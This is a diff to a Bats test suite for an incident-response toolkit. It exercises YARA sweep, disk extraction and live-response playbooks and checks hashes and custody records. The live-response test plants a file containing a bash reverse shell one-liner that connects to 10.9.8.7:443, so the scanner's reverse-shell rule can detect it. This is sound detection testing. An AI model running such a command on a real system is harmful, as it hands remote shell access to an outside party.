@@ -20,13 +20,15 @@ setup() {
 
 # playbook STATUS NAME ARGS...: run playbooks/NAME.sh with the tools under
 # test; stdout (the package path) in ./pkg.out, stderr in ./stderr.
+# STATUS may list several ("1 3": a scan of every process may meet one it
+# cannot read, which is said and makes the result incomplete).
 playbook() {
 	local want=$1 name=$2 rc=0
 	shift 2
 	IRKIT_BIN=$IRKIT_BIN sh "$PB/$name.sh" "$@" >pkg.out \
 	    2>"$BATS_TEST_TMPDIR/stderr" || rc=$?
 	check_sanitizer "$BATS_TEST_TMPDIR/stderr"
-	if [ "$rc" -ne "$want" ]; then
+	if [[ " $want " != *" $rc "* ]]; then
 		sed 's/^/stderr: /' "$BATS_TEST_TMPDIR/stderr" >&2
 		fail "$name.sh $*: exit $rc, want $want"
 	fi
@@ -73,7 +75,7 @@ plant_tree() {
 	assert_eq "$(jq -r .examiner bag/data/case.json)" "Jane Doe" "examiner"
 	assert_eq "$(jq -r .case_id bag/data/case.json)" sweep1 "case id"
 	assert_eq "$(cat bag/data/ir-scan-*.jsonl | jq -r 'select(.type == "match") |
-	    [.rule, (.path | sub(".*/tree/"; ""))] | @tsv' | sort)" \
+	    [.rule, (.path | sub("^(.*/)?tree/"; ""))] | @tsv' | sort)" \
 	    "$(printf 'irkit_eicar\teicar.com\nirkit_reverse_shell_oneliner\tsub/rs.sh')"
 	# The case directory is kept next to the package, byte for byte.
 	diff -r out/sweep1 bag/data
@@ -88,7 +90,7 @@ plant_tree() {
 	age-keygen -o key.txt 2>/dev/null
 	local pub
 	pub=$(age-keygen -y key.txt)
-	playbook 1 yara-sweep -R "$pub" --processes sweep2 out tree
+	playbook "1 3" yara-sweep -R "$pub" --processes sweep2 out tree
 	[ -f out/sweep2.tar.gz.age ] || fail "no out/sweep2.tar.gz.age"
 	[ ! -e out/sweep2.tar.gz ] || fail "a clear package was left"
 	age -d -i key.txt out/sweep2.tar.gz.age >clear.tar.gz
@@ -108,8 +110,8 @@ plant_tree() {
 	unpack "$pkg" bag
 	assert_eq "$(custody_tools bag)" "ir-walk ir-timeline ir-scan " "custody"
 	# gone.txt, deleted on both partitions, extracted as icat does.
-	icat -o 2048 disk.img "$(jq -r 'select(.type == "match" and .part == 0) |
-	    .inode' bag/data/ir-scan-*.jsonl)" >theirs
+	icat -o 2048 disk.img "$(jq -r 'select(.type == "match" and .part == 0 and
+	    .inode != null) | .inode' bag/data/ir-scan-*.jsonl)" >theirs
 	cmp theirs bag/data/hits/p0/gone.txt
 	[ -s bag/data/hits/index.jsonl ]
 	[ "$(jq -s length bag/data/hits/index.jsonl)" -eq 2 ]
@@ -120,26 +122,29 @@ plant_tree() {
 
 @test "live-response: this host into a verified package; every step recorded" {
 	need_root
-	playbook_live() {
-		local rc=0
-		IRKIT_BIN=$IRKIT_BIN sh "$PB/live-response.sh" -r "$RULES" live1 out \
-		    >pkg.out 2>"$BATS_TEST_TMPDIR/stderr" || rc=$?
-		check_sanitizer "$BATS_TEST_TMPDIR/stderr"
-		# 1: a finding on this test host is a result; 3: something of
-		# the host could not be read (said).  Never 2 or a crash.
-		case $rc in 0 | 1 | 3) ;; *)
-			sed 's/^/stderr: /' "$BATS_TEST_TMPDIR/stderr" >&2
-			fail "live-response.sh: exit $rc" ;;
-		esac
-	}
-	playbook_live
+	# A small catalogue, a planted hot directory and one system directory
+	# keep the run short; the defaults are the same steps over more.
+	cat >cat.json <<'EOF2'
+{ "category": "accounts", "description": "test",
+  "artifacts": [ { "name": "passwd", "description": "accounts",
+    "paths": ["/etc/passwd", "/etc/hostname"], "max_size": "1M" } ] }
+EOF2
+	mkdir -p "hot dir"
+	printf 'bash -i >& /dev/tcp/10.9.8.7/443 0>&1\n' >"hot dir/x.sh"
+	playbook "1 3" live-response -r "$RULES" -C cat.json -d "$PWD/hot dir" \
+	    -w /usr/bin live1 out
 	run_tool 0 verify.out ir-verify out/live1.tar.gz
 	unpack out/live1.tar.gz bag
 	assert_eq "$(custody_tools bag)" \
 	    "ir-live ir-scan ir-collect ir-scan ir-walk " "custody"
-	# ir-live saw this very shell; ir-walk hashed /usr/bin/env as sha256sum does.
-	jq -e --argjson p $$ 'select(.type == "process" and .pid == $p)' \
+	# ir-live saw this very shell; ir-collect copied /etc/passwd as it is;
+	# the planted script matched; ir-walk hashed /usr/bin/env as sha256sum.
+	jq -e -s --argjson p $$ 'any(.[]; .type == "process" and .pid == $p)' \
 	    bag/data/ir-live-*.jsonl >/dev/null || fail "no process record of $$"
+	cmp /etc/passwd bag/data/collect/etc/passwd
+	assert_eq "$(jq -r 'select(.type == "match") | .rule' \
+	    bag/data/ir-scan-*.jsonl | sort -u | grep reverse)" \
+	    irkit_reverse_shell_oneliner "planted match"
 	assert_eq "$(jq -r 'select(.path == "/usr/bin/env") | .sha256' bag/data/ir-walk-*.jsonl)" \
 	    "$(sha256sum /usr/bin/env | cut -d' ' -f1)" "sha256 of /usr/bin/env"
 }
